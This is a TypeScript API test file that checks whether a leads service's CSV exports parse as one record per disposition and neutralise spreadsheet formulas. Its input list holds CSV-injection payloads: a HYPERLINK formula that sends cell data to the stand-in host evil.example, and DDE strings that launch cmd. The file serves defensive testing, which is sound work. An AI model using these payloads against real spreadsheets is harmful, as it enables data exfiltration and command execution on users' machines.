import type { DispositionResponse } from '@dispositions/api-types';
import { createDisposition, createLead, exportAsJson } from '../support/factories';
import { readStrictCsv } from '../support/rfc4180';
import { useServerWithBusiness } from '../support/test-server';

// Both CSV exports (the text/csv stream and the JSON document's `csv`) read by a strict
// RFC 4180 reader: one record per disposition whatever its text holds, and no cell a
// spreadsheet would run as a formula.

/** Every CSV export of the lead, in both vocabularies, with the column of its record id. */
async function bothExports(leadId: string): Promise<[form: string, csv: string, idColumn: string][]> {
  const { client } = suite.business;
  const streamed = await client.GET('/dispositions/lead/{leadId}/export', { params: { path: { leadId } }, headers: { Accept: 'text/csv' }, parseAs: 'text' });
  const { data: json } = await exportAsJson(client, leadId);
  const streamedStatus = await client.GET('/leads/{id}/status-history/export', {
    params: { path: { id: leadId } },
    headers: { Accept: 'text/csv' },
    parseAs: 'text',
  });
  const { data: jsonStatus } = await client.GET('/leads/{id}/status-history/export', { params: { path: { id: leadId } } });
  return [
    ['the text/csv stream', streamed.data as string, 'dispositionId'],
    ["the JSON document's csv", json.csv, 'dispositionId'],
    ["the status history's text/csv stream", streamedStatus.data as string, 'leadStatusChangeId'],
    ["the status history's JSON csv", (jsonStatus as { csv: string }).csv, 'leadStatusChangeId'],
  ];
}

/** What a spreadsheet shows for `sent`: a `'` before a formula's first character, nothing else changed. */
const shown = (sent: string) => (/^[=+\-@\t\r]/.test(sent) ? `'${sent}` : sent);

const hostileText = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'line one\nline two',
  'line one\rline two',
  'line one\r\nline two',
  'ends in a bare LF\n',
  'said "call me", later',
  'a plain note; ünïcödé 😀',
  'an = inside is fine, as is a - or a +',
];

const suite = useServerWithBusiness();

test('when notes and outcomes hold formulas and bare CR or LF, then both exports read as one record each under a strict RFC 4180 reader, every formula neutralised', async () => {
  const lead = await createLead(suite.business.client);
  const created: DispositionResponse[] = [];
  for (const [i, text] of hostileText.entries()) {
    created.push(
      await createDisposition(suite.business.client, lead.id, {
        outcome: text,
        notes: text,
        reason: text,
        assignedToUserId: text.slice(0, 200),
        timestamp: `2026-01-01T00:00:${String(59 - i).padStart(2, '0')}.000Z`,
      }),
    );
  }

  for (const [form, csv, idColumn] of await bothExports(lead.id)) {
    const [header, ...records] = readStrictCsv(csv);
    expect({ form, records: records.length }).toEqual({ form, records: hostileText.length });
    const column = (name: string) => header!.indexOf(name);
    expect(records.map((record) => record[column(idColumn)])).toEqual(created.map(({ id }) => id));
    for (const [i, record] of records.entries()) {
      for (const name of ['outcome', 'notes', 'reason', 'assignedToUserId']) {
        expect({ form, name, cell: record[column(name)] }).toEqual({ form, name, cell: shown(hostileText[i]!) });
      }
      for (const cell of record) expect({ form, cell, formula: /^[=+\-@\t\r]/.test(cell) }).toEqual({ form, cell, formula: false });
    }
  }
});

test('when a field is stored with a formula, then the API itself still answers it as sent: only the CSV cell is neutralised', async () => {
  const lead = await createLead(suite.business.client);
  const disposition = await createDisposition(suite.business.client, lead.id, { outcome: '=1+2' });
  const { data: json } = await exportAsJson(suite.business.client, lead.id);
  expect(disposition.outcome).toBe('=1+2');
  expect(json.rows[0]!.outcome).toBe('=1+2');
  expect(readStrictCsv(json.csv)[1]).toContain("'=1+2");
});
